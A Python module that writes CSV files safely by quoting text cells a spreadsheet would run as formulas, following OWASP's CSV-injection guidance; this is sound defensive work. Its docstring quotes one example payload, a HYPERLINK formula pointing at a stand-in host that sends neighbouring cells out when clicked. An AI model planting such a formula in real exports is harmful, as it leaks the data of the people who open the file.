"""CSV written for people: no cell can run as a spreadsheet formula.

A text cell a spreadsheet would read as a formula (starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is written with a leading single quote, as OWASP's CSV-injection
guidance advises: an employee's comment ``=HYPERLINK("http://evil.example/?d="&A3, "See the
report")`` otherwise becomes a live link that sends neighbouring cells away when clicked.
Values that are numbers stay numbers, negative ones included: only text is changed, and text
that is just a number (``-0.25``) is left alone because a spreadsheet reads it as that number.
Every CSV the application writes goes through `CsvWriter` (exports, survey and contact-centre
tables alike), so the rule lives here once.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a CSV cell that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvWriter:
    """`csv.writer` whose every cell, header included, passes `spreadsheet_safe`."""

    def __init__(self, stream, **formatting):
        self._writer = csv.writer(stream, **formatting)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
